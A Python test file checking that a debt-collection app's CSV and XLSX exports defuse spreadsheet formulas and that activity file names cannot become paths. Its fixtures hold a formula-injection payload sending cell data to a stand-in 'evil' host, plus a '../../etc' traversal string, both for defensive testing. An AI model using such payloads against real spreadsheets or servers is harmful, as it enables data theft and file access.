"""The writer of every list export and the activity file's name: what a spreadsheet opens is never a
formula, a CSV is UTF-8 with a byte order mark, headers are in the viewer's language, money in an XLSX is a
number, and a creditor's code never turns a file's name into a path."""

from __future__ import annotations

import io
from datetime import date

import openpyxl

from huikuan.services.activity_files import file_name
from huikuan.services.export_files import Column, csv_bytes, xlsx_bytes

COLUMNS = (Column("case", "Case"), Column("debtor", "Debtor"), Column("balance", "Balance", money=True))
ROWS = [
    {"case": 1, "debtor": '=HYPERLINK("http://evil/?"&A1)', "balance": "12000.00"},
    {"case": 2, "debtor": "@SUM(A1:A9)", "balance": "-5.50"},
    {"case": 3, "debtor": None, "balance": ""},
]


def test_a_csv_export_has_a_bom_translated_headers_and_no_formula() -> None:
    data, count = csv_bytes(COLUMNS, ROWS, "zh_CN")
    assert count == 3 and data.startswith("\ufeff".encode())
    lines = data.decode("utf-8-sig").splitlines()
    assert lines[0] == "案件,债务人,欠款余额"
    assert lines[1] == '1,"\'=HYPERLINK(""http://evil/?""&A1)",12000.00'
    assert lines[2] == "2,'@SUM(A1:A9),-5.50"  # a plain negative number stays a number
    assert lines[3] == "3,,"


def test_an_xlsx_export_keeps_text_as_text_and_money_as_numbers() -> None:
    data, count = xlsx_bytes(COLUMNS, iter(ROWS), "en", "Portfolio")
    assert count == 3
    book = openpyxl.load_workbook(io.BytesIO(data))
    sheet = book.active
    assert sheet is not None and sheet.title == "Portfolio"
    cells = [[cell.value for cell in row] for row in sheet.iter_rows()]
    assert cells[0] == ["Case", "Debtor", "Balance"]
    assert [row[1] for row in cells[1:3]] == ["'" + ROWS[0]["debtor"], "'@SUM(A1:A9)"]
    assert [row[2] for row in cells[1:3]] == [12000, -5.5]


def test_a_creditor_code_never_makes_an_activity_files_name_a_path() -> None:
    assert file_name("../../etc/BANK", date(2026, 11, 20)) == "activity-______etc_BANK-2026-11-20.csv"
    assert file_name("BANK-2", date(2026, 11, 20)) == "activity-BANK-2-2026-11-20.csv"
